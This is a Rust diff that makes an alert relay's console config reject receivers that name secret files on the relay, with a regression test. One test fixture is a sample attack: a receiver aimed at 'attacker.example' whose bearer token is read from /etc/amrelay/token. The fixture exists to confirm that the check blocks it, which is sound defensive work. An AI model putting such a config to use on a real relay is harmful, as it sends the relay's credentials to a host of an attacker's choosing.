@@ -79,6 +79,37 @@ pub struct ConsoleConfig {
     pub warnings: Vec<Issue>,
 }
 
+/// `*_file` keys whose file's content would be sent to the receiver (credentials, tokens,
+/// preset secrets, `url_file`), as field paths. Receivers edited in the console must not make
+/// the relay read its own files and send them where the editor chooses; the TLS files
+/// (`ca_file`, `cert_file`, `key_file`) are only used for the handshake and stay allowed.
+fn relay_files(text: &str) -> Vec<String> {
+    fn walk(value: &serde_json::Value, at: &str, out: &mut Vec<String>) {
+        match value {
+            serde_json::Value::Object(map) => {
+                for (key, inner) in map {
+                    let field = if at.is_empty() { key.clone() } else { format!("{at}.{key}") };
+                    if key.ends_with("_file") && !matches!(key.as_str(), "ca_file" | "cert_file" | "key_file") {
+                        out.push(field.clone());
+                    }
+                    walk(inner, &field, out);
+                }
+            }
+            serde_json::Value::Array(items) => {
+                for (index, inner) in items.iter().enumerate() {
+                    walk(inner, &format!("{at}[{index}]"), out);
+                }
+            }
+            _ => {}
+        }
+    }
+    let mut out = Vec::new();
+    if let Ok(value) = serde_saphyr::from_str::<serde_json::Value>(text) {
+        walk(&value, "", &mut out);
+    }
+    out
+}
+
 /// Reads and validates the console file; a file that does not exist yet has no receivers.
 pub fn load_console(path: &Path, main: &Config) -> Result<ConsoleConfig, ConfigError> {
     let fail = |message: String| ConfigError {
@@ -105,6 +136,18 @@ pub fn console_from_str(text: &str, path: &Path, main: &Config) -> Result<Consol
             .map_err(|e| super::parse_error(path, &e))?
     };
     let mut issues = super::issues::Issues::new(&base_dir, text);
+    for field in relay_files(text) {
+        issues.list.push(Issue {
+            position: None,
+            field,
+            message: "a console receiver cannot name a file on the relay (a secret there would be sent \
+                      wherever the receiver points): type the secret itself, or define the receiver in the config file"
+                .into(),
+        });
+    }
+    if !issues.list.is_empty() {
+        return Err(ConfigError { file: path.to_owned(), issues: issues.list });
+    }
     let receivers = super::validate::receivers(&mut issues, &raw.receivers, &main.receiver_defaults, &environment);
     if !issues.list.is_empty() {
         return Err(ConfigError { file: path.to_owned(), issues: issues.list });
@@ -160,6 +203,31 @@ mod tests {
         let receiver = &console.receivers[0];
         assert_eq!((receiver.queue_capacity, receiver.endpoint.timeout.as_secs()), (7, 3));
         assert!(!receiver.enabled);
+    }
+
+    /// Regression (review): a console receiver naming a relay file as its bearer token sent that
+    /// file's content to the URL the editor chose.
+    #[test]
+    fn console_receivers_cannot_read_the_relays_files() {
+        let main = main_config("receivers: []\n");
+        for (text, field) in [
+            (
+                "receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      authorization: {credentials_file: /etc/amrelay/token}\n",
+                "receivers[0].http_config.authorization.credentials_file",
+            ),
+            ("receivers:\n  - {name: c, url_file: /etc/amrelay/url}\n", "receivers[0].url_file"),
+            (
+                "receivers:\n  - {name: c, url: 'https://x.example/', preset: pagerduty, preset_options: {routing_key_file: /k}}\n",
+                "receivers[0].preset_options.routing_key_file",
+            ),
+        ] {
+            let error = console_from_str(text, Path::new(CONSOLE), &main).unwrap_err();
+            assert_eq!(error.issues[0].field, field, "{error}");
+            assert!(error.to_string().contains("cannot name a file on the relay"), "{error}");
+        }
+        let tls = "receivers:\n  - name: c\n    url: 'https://x.example/'\n    http_config: {tls_config: {ca_file: /nonexistent/ca.pem}}\n";
+        let error = console_from_str(tls, Path::new(CONSOLE), &main).unwrap_err().to_string();
+        assert!(!error.contains("cannot name a file"), "a CA file stays allowed: {error}");
     }
 
     #[test]
